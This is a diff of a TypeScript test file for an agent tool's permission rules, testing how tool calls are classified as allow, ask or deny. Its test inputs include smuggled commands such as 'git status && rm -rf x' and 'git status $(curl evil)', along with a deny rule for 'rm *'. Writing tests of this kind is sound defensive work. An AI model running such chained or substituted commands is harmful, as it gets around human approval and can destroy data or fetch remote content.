@@ -7,33 +7,21 @@ const write = (file: string) => `!call write_file ${JSON.stringify({ file_path: 
 const bash = (command: string) => `!call bash ${JSON.stringify({ command })}`;
 
 describe('amplifier permissions', () => {
-  it('adds, lists, explains and removes rules', async () => {
+  it('explains calls as they are written in files, in Claude Code and on screen', async () => {
     await using box = await CliSandbox.create();
-    await box.home.write('settings.yaml', '# mine\npermissions:\n  deny:\n    - bash: rm *\n');
-    const added = await box.run(['permissions', 'add', 'allow', 'bash: git status *']);
-    expect([added.code, added.stderr]).toMatchObject([0, expect.stringContaining('Added to')]);
-    await box.run(['permissions', 'add', 'ask', 'bash: git *']);
-    expect(await box.home.read('settings.yaml')).toContain('# mine');
-    const listed = await box.run(['permissions', 'list']);
-    expect(listed.stdout).toMatch(/allow\s+bash: git status \*\s+\S*settings\.yaml/);
-    expect(listed.stdout).toMatch(/deny\s+bash: rm \*/);
-    const tested = async (call: string) => (await box.run(['permissions', 'test', call, '--json'])).json();
-    expect(await tested('bash: git status --short')).toMatchObject({
-      action: 'allow',
-      rule: { rule: 'bash: git status *' },
-      because: expect.stringContaining("narrower than the rule ask 'bash: git *'"),
-    });
-    expect(await tested('bash: git status && rm -rf x')).toMatchObject({ action: 'deny' });
-    expect(await tested('Bash(git status $(curl evil))')).toMatchObject({ action: 'ask' });
-    expect(await tested('write: a.ts')).toMatchObject({ action: 'ask', rule: null });
-    expect(await tested('bash git status --short'), 'as it is shown').toMatchObject({ action: 'allow' });
+    await box.home.write(
+      'settings.yaml',
+      'permissions:\n  deny:\n    - bash: rm *\n  allow:\n    - bash: git status *\n',
+    );
     await box.run(['permissions', 'add', 'allow', 'web_fetch: "docs.*"']);
-    expect(await tested('web_fetch: https://docs.example.com/a'), 'quoted as in a file').toMatchObject({
-      action: 'allow',
-    });
-    const removed = await box.run(['permissions', 'remove', 'bash: rm *']);
-    expect([removed.code, removed.stderr]).toMatchObject([0, expect.stringContaining('deny bash: rm *')]);
-    expect((await box.run(['permissions', 'remove', 'bash: rm *'])).code).toBe(1);
+    for (const [call, action] of [
+      ['Bash(git status $(curl evil))', 'ask'],
+      ['write: a.ts', 'ask'],
+      ['bash git status --short', 'allow'],
+      ['web_fetch: https://docs.example.com/a', 'allow'],
+    ] as const)
+      expect((await box.run(['permissions', 'test', call, '--json'])).json(), call).toMatchObject({ action });
+    expect((await box.run(['permissions', 'remove', 'bash: ls'])).code).toBe(1);
   });
 
   it('refuses what is no rule, what is no action, and a folder that would allow', async () => {
